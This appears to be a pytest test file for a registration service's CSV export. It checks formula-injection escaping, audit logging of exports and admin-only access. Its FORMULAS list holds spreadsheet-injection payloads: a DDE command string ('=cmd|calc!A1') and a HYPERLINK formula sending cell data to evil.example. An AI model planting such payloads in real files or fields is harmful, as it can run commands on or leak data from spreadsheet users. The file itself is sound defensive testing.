"""Registrations as CSV: read back as written, and nothing that a spreadsheet would run."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import MutableMapping
from typing import Any

import pytest
from starlette.requests import ClientDisconnect

from hostemr.registration.board.roles import ROLES
from hostemr.registration.installations.export import HEADER, RegistrationsAsCSV, as_csv, harmless
from hostemr.registration.installations.listing import Filter, RegistrationList
from tests.registration.conftest import NewService
from tests.registration.console import SETTINGS, visitor
from tests.registration.installations.rows import add

pytestmark = pytest.mark.anyio

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    ' "=1"',
    '"=cmd|calc!A1"',
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "  =1",
    "\u00a0=1",
    "\v=1",
    "\uff1d1+1",
    "8.0.0;=cmd|calc!A1",
    '8.0.0; "+1"',
    "8.0.0\r\n@SUM(A1)",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str) -> None:
    [[cell, plain]] = read(as_csv([(formula, "plain")]))
    assert (cell.replace("'", ""), plain) == (formula, "plain")
    # Where cells are separated by semicolons, the quotes within a line are a cell's text.
    for part in re.split(r"[;\r\n]", cell):
        assert part.strip(' "\u00a0\v\ufeff')[:1] not in {"=", "+", "-", "@", "\t", "\uff1d"}, part


@pytest.mark.parametrize(
    "text", ["", "8.0.0", "a,b", 'say "hi"', "two\nlines", "naïve ☃", "1-2", "a=b", " ", "a;b; c=d"]
)
def test_other_texts_come_back_as_they_were(text: str) -> None:
    assert harmless(text) == text
    assert read(as_csv([(text, 5)])) == [[text, "5"]]


def test_lines_end_as_rfc_4180_has_it() -> None:
    assert as_csv([("a", "b,c"), (1, None)]) == 'a,"b,c"\r\n1,\r\n'


async def test_what_attackers_registered_is_exported_harmlessly(new_service: NewService) -> None:
    service = await new_service(**SETTINGS)
    for turn, formula in enumerate(FORMULAS):
        await add(service, f"=user{turn}@example.org", (formula, formula))
    await add(service, "last@example.org", ("8.0.0", 'x,"y"\r\nz'))
    ada = await visitor(service)
    reply = await ada.post("/board/registrations/export")
    assert reply.status_code == 200
    assert reply.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert reply.headers["content-disposition"] == 'attachment; filename="registrations.csv"'
    assert reply.headers["cache-control"] == "no-store"
    assert reply.content.startswith(b"\xef\xbb\xbf")
    header, *rows = read(reply.content.decode("utf-8-sig"))
    assert header == list(HEADER)
    assert len(rows) == len(FORMULAS) + 1
    assert rows[0][1:3] + rows[0][5:] == ["last@example.org", "active", "1", "8.0.0", 'x,"y"\r\nz']
    for row in rows:
        for cell in row:
            assert cell.strip(' "')[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}, cell


async def test_an_export_is_of_what_was_filtered_and_the_audit_log_keeps_both(new_service: NewService) -> None:
    service = await new_service(**SETTINGS)
    await add(service, "a@example.org", ("8.0.0", "docker"))
    await add(service, "b@example.org", ("7.0.3", "docker"))
    ada = await visitor(service)
    reply = await ada.post("/board/registrations/export", {"relation": "older", "version": "8.0.0"})
    assert [row[1] for row in read(reply.content.decode("utf-8-sig"))[1:]] == ["b@example.org"]
    entries = await service.rows("SELECT actor, action, subject, details FROM audit_entry ORDER BY number")
    actor = f"member:{ada.member_id}"
    assert entries == [
        (actor, "registration.export", "", '{"filter":"relation=older, version=8.0.0","what":"list"}'),
        (actor, "registration.export", "", '{"complete":true,"rows":1,"what":"list ended"}'),
    ]


async def test_an_export_that_is_broken_off_is_in_the_audit_log_as_not_complete(new_service: NewService) -> None:
    service = await new_service(**SETTINGS)
    for turn in range(3):
        await add(service, f"user{turn}@example.org", ("8.0.0", None))
    noted: list[tuple[int, bool]] = []
    sent: list[bytes] = []

    async def finished(rows: int, complete: bool) -> None:
        noted.append((rows, complete))

    async def receive() -> dict[str, str]:
        await asyncio.sleep(60)
        return {"type": "http.disconnect"}

    async def send(message: MutableMapping[str, Any]) -> None:
        sent.append(message.get("body", b""))
        if b"user" in sent[-1]:
            raise BrokenPipeError

    for at_once, rows in ((2, 2), (1000, 3)):
        reply = RegistrationsAsCSV(RegistrationList(service.database), Filter(), finished, at_once=at_once)
        with pytest.raises((ClientDisconnect, OSError)):
            await reply({"type": "http", "asgi": {"spec_version": "2.4"}}, receive, send)
        assert noted.pop() == (rows, False), "nobody knows whether the last part arrived"


async def test_an_export_goes_on_part_after_part(new_service: NewService) -> None:
    service = await new_service(**SETTINGS)
    numbers = [await add(service, f"user{turn}@example.org", ("8.0.0", None)) for turn in range(7)]
    noted: list[tuple[int, bool]] = []

    async def finished(rows: int, complete: bool) -> None:
        noted.append((rows, complete))

    # A state that is found by several places of an index, so that the parts have an order to keep.
    reply = RegistrationsAsCSV(RegistrationList(service.database), Filter(state="mail"), finished, at_once=3)
    text = "".join([str(part) async for part in reply.body_iterator])
    assert noted == [], "it is told when all was sent, not when all was read"
    assert [int(row[0]) for row in read(text.removeprefix("\ufeff"))[1:]] == numbers[::-1]


async def test_nobody_exports_who_is_no_administrator_or_has_not_shown_to_be_there(new_service: NewService) -> None:
    service = await new_service(**SETTINGS)
    await add(service, "a@example.org", ("8.0.0", None))
    for role in ROLES[:-1]:
        refused = await (await visitor(service, role)).post("/board/registrations/export")
        assert refused.status_code == 403
        assert "a@example.org" not in refused.text
    asked = await (await visitor(service, confirmed=False)).post("/board/registrations/export")
    assert "Confirm it is you" in asked.text
    assert "a@example.org" not in asked.text
    assert await service.rows("SELECT COUNT(*) FROM audit_entry") == [(0,)]
